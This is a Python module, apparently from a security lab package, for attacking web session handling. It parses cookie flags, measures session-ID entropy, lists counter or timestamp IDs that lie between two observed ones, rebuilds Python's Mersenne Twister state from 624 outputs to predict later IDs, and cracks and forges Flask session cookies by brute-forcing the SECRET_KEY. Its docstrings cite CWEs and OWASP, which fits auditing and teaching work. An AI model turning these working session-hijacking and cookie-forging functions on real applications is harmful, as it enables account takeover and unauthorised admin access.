"""Attacks on session IDs and cookies: read the flags, measure the IDs, predict, crack, forge.

    probe_cookie_flags(response)        which cookies JavaScript can read, which travel cross-site
    session_id_entropy(ids)             how many bits the IDs really carry, and why they are guessable
    clone_python_random(ids)            Python's ``random`` rebuilt from 624 observed outputs
    ids_between(before, after)          every counter or timestamp ID issued between two of yours
    crack_flask_session(cookie)         the SECRET_KEY behind a Flask session cookie
    forge_flask_session(data, secret)   a session cookie Flask accepts as its own
"""

from __future__ import annotations

import dataclasses
import hashlib
import hmac
import math
import os
import random
import string
import time
import zlib
from collections.abc import Iterable, Sequence

from flask import Flask
from flask.sessions import SecureCookieSessionInterface

from authlab.weak import weak_secrets
from authlab.wire import b64url_decode, parse_set_cookie, set_cookie_headers

# OWASP Session Management Cheat Sheet: at least 64 bits of entropy.
MIN_ID_BITS = 64
_MT_WORDS = 624  # Mersenne Twister state: 624 words of 32 bits


# --- cookie flags ---------------------------------------------------------------------


@dataclasses.dataclass(frozen=True)
class CookieFlags:
    """One ``Set-Cookie`` header, parsed: the cookie and the flags that protect it."""

    name: str
    value: str
    httponly: bool
    secure: bool
    samesite: str | None
    path: str | None
    max_age: int | None

    @property
    def readable_by_script(self) -> bool:
        """True when page JavaScript (and so any injected script) sees it in ``document.cookie``."""
        return not self.httponly

    def problems(self) -> list[str]:
        """What each missing flag allows, one sentence each, with its CWE."""
        found = []
        if not self.httponly:
            found.append("no HttpOnly: document.cookie shows it, so an XSS can steal it (CWE-1004)")
        if not self.secure:
            found.append("no Secure: it also travels over plain HTTP (CWE-614); fine on loopback only")
        if self.samesite is None or self.samesite.lower() == "none":
            found.append(f"SameSite={self.samesite}: sent on cross-site requests, CSRF is up to the server (CWE-352)")
        return found


def _cookie_flags(header: str) -> CookieFlags | None:
    parsed = parse_set_cookie(header)
    if parsed is None:
        return None
    name, value, flags = parsed
    max_age = flags.get("max-age")
    samesite, path = flags.get("samesite"), flags.get("path")
    return CookieFlags(
        name=name, value=value.strip('"'),
        httponly="httponly" in flags, secure="secure" in flags,
        samesite=samesite if isinstance(samesite, str) and samesite else None,
        path=path if isinstance(path, str) and path else None,
        max_age=int(max_age) if isinstance(max_age, str) and max_age.lstrip("-").isdigit() else None,
    )


def probe_cookie_flags(response) -> list[CookieFlags]:
    """The cookies a response sets, with their flags. CWE-1004 (no HttpOnly), CWE-614 (no Secure)."""
    return [flags for header in set_cookie_headers(response) if (flags := _cookie_flags(header)) is not None]


# --- session ID entropy ---------------------------------------------------------------

_ALPHABETS = (
    ("decimal", string.digits),
    ("hex", string.hexdigits),
    ("base64url", string.ascii_letters + string.digits + "-_"),
)


@dataclasses.dataclass
class IdReport:
    """What a handful of session IDs reveal about how they are made."""

    samples: int
    length: int
    alphabet: str
    estimated_bits: float
    findings: list[str]

    @property
    def guessable(self) -> bool:
        return bool(self.findings)

    def __str__(self) -> str:
        verdict = "GUESSABLE: " + "; ".join(self.findings) if self.findings else "no pattern found"
        return (f"{self.samples} IDs of {self.length} {self.alphabet} characters, "
                f"at most {self.estimated_bits:.0f} bits each: {verdict}")


def _as_number(value: str, alphabet: str) -> int | float | None:
    try:
        if alphabet == "decimal":
            return int(value)
        if alphabet == "hex":
            return int(value, 16)
        return float(value) if "." in value else None
    except ValueError:
        return None


def _time_unit(number: float, now: float) -> str | None:
    for unit, scale in (("seconds", 1), ("milliseconds", 1e3), ("microseconds", 1e6), ("nanoseconds", 1e9)):
        if abs(number / scale - now) < 86_400:
            return unit
    return None


def session_id_entropy(ids: Sequence[str], now: float | None = None) -> IdReport:
    """Estimate the entropy of session IDs and look for the patterns that make them guessable.

    The estimate is an upper bound (length x bits per character, minus a prefix all IDs
    share): a Mersenne Twister or a hash of the time looks random here and still is not.
    Checks: repeats, counters, timestamps, float-looking IDs (``Math.random()``), and
    fewer than 64 bits. CWE-330, CWE-331 (insufficient entropy), CWE-340 (predictable IDs).
    """
    ids = [str(value) for value in ids]
    if len(ids) < 2:
        raise ValueError("need at least two session IDs to compare")
    now = time.time() if now is None else now
    chars = set("".join(ids))
    alphabet, symbols = next(((name, chars_) for name, chars_ in _ALPHABETS if chars <= set(chars_)),
                             ("other", "".join(sorted(chars))))
    if alphabet == "other" and chars <= set(string.digits + "."):
        alphabet = "float"
    size = {"decimal": 10, "hex": 16, "base64url": 64, "float": 10}.get(alphabet, max(len(symbols), 2))
    shared_prefix = len(os.path.commonprefix(ids))
    length = min(len(value) for value in ids)
    bits = max(0, length - shared_prefix) * math.log2(size)
    findings = []
    if len(set(ids)) < len(ids):
        findings.append(f"{len(ids) - len(set(ids))} ID(s) were issued twice")
    numbers = [_as_number(value, alphabet) for value in ids]
    if all(number is not None for number in numbers):
        if alphabet == "float":
            findings.append("IDs are random floats, like Math.random().toString(): a PRNG for simulations, not secrets")
        elif unit := _time_unit(sum(numbers) / len(numbers), now):
            findings.append(f"IDs are timestamps ({unit} since 1970): knowing when you logged in is enough to guess")
        elif max(numbers) - min(numbers) < 1_000_000 * len(numbers):
            findings.append("IDs are numbers close together: a counter, so the previous one belongs to someone else")
    if bits < MIN_ID_BITS:
        findings.append(f"at most {bits:.0f} bits per ID; OWASP asks for at least {MIN_ID_BITS}")
    return IdReport(len(ids), length, alphabet, bits, findings)


def ids_between(before: str, after: str, limit: int = 100_000) -> list[str]:
    """Every numeric ID strictly between two you were issued, in the same format (CWE-340).

    Counters and timestamps leave no gap an attacker cannot walk: ask for an ID, wait
    for the victim to log in, ask again; the victim's ID lies between.
    """
    hex_ids = not (before.isdigit() and after.isdigit())
    low, high = (int(before, 16), int(after, 16)) if hex_ids else (int(before), int(after))
    if not 0 <= high - low - 1 <= limit:
        raise ValueError(f"{high - low - 1} IDs lie between {before!r} and {after!r}; the limit is {limit}")
    width = len(before) if before.startswith("0") else 0
    return [format(number, f"0{width}x" if hex_ids else f"0{width}d") for number in range(low + 1, high)]


# --- Python's random (Mersenne Twister) -----------------------------------------------


def _undo_right(value: int, shift: int) -> int:
    result = value
    for _ in range(32 // shift + 1):
        result = value ^ (result >> shift)
    return result


def _undo_left(value: int, shift: int, mask: int) -> int:
    result = value
    for _ in range(32 // shift + 1):
        result = value ^ ((result << shift) & mask)
    return result & 0xFFFFFFFF


def _untemper(output: int) -> int:
    """The generator's internal word behind one 32-bit output (MT19937 tempering, inverted)."""
    value = _undo_right(output, 18)
    value = _undo_left(value, 15, 0xEFC60000)
    value = _undo_left(value, 7, 0x9D2C5680)
    return _undo_right(value, 11)


def _words(ids: Iterable[str], bits: int) -> list[int]:
    words = []
    for value in ids:
        try:
            number = int(value, 16)
        except ValueError:
            raise ValueError(f"{value!r} is not a hex number; clone_python_random needs getrandbits() IDs") from None
        words += [(number >> (32 * i)) & 0xFFFFFFFF for i in range(bits // 32)]  # low word first, as CPython fills
    return words


def clone_python_random(ids: Sequence[str], bits: int = 128) -> random.Random:
    """A ``random.Random`` in the same state as the server's, rebuilt from its IDs. CWE-338.

    ``ids`` are consecutive outputs of ``getrandbits(bits)`` as hex (``bits`` a multiple
    of 32). 624 words of output (156 IDs of 128 bits) fix the whole state; the clone then
    produces the server's *next* IDs. Seeding from the OS does not help: the Mersenne
    Twister is made for simulations, not secrets. Use ``secrets``.
    """
    if bits % 32:
        raise ValueError("bits must be a multiple of 32")
    words = _words(ids, bits)
    if len(words) < _MT_WORDS:
        needed = math.ceil(_MT_WORDS / (bits // 32))
        raise ValueError(f"need {needed} consecutive {bits}-bit IDs to rebuild the state; got {len(ids)}")
    state = [_untemper(word) for word in words[-_MT_WORDS:]]
    clone = random.Random()
    clone.setstate((3, (*state, _MT_WORDS), None))
    return clone


# --- Flask's signed cookie session ----------------------------------------------------

_FLASK_SESSION = SecureCookieSessionInterface()


def _serializer(secret: str | bytes):
    app = Flask("authlab-forge")
    app.secret_key = secret
    return _FLASK_SESSION.get_signing_serializer(app)


def decode_flask_session(cookie: str) -> dict:
    """The data in a Flask session cookie, read without the key: signed is not encrypted."""
    payload = cookie.split(".")[1] if cookie.startswith(".") else cookie.split(".")[0]
    try:
        raw = b64url_decode(payload)
        text = zlib.decompress(raw) if cookie.startswith(".") else raw
        return _FLASK_SESSION.serializer.loads(text.decode())
    except (ValueError, zlib.error, UnicodeDecodeError):
        raise ValueError("not a Flask session cookie (payload.timestamp.signature)") from None


def _flask_signature_parts(cookie: str) -> tuple[bytes, bytes]:
    value, _, signature = cookie.rpartition(".")
    if not value or value.count(".") < 1:
        raise ValueError("not a Flask session cookie (payload.timestamp.signature)")
    return value.encode(), b64url_decode(signature)


def crack_flask_session(cookie: str, wordlist: Iterable[str | bytes] | None = None) -> str | None:
    """The SECRET_KEY that signed a Flask session cookie, if it is in ``wordlist``, else None.

    Flask signs with itsdangerous: HMAC-SHA1 under a key derived as HMAC(secret, "cookie-session").
    Each word costs two HMACs, offline. CWE-1391, CWE-321; CVE-2023-27524 (Apache Superset
    shipped a default SECRET_KEY, so anyone could forge an admin session).
    """
    value, signature = _flask_signature_parts(cookie)
    salt = _FLASK_SESSION.salt.encode()
    for word in weak_secrets() if wordlist is None else wordlist:
        key = word.encode() if isinstance(word, str) else word
        derived = hmac.digest(key, salt, hashlib.sha1)
        if hmac.compare_digest(hmac.digest(derived, value, hashlib.sha1), signature):
            return word.decode() if isinstance(word, bytes) else word
    return None


def forge_flask_session(data: dict, secret: str | bytes) -> str:
    """A session cookie Flask verifies as its own, holding ``data``: needs only the SECRET_KEY."""
    return _serializer(secret).dumps(dict(data))
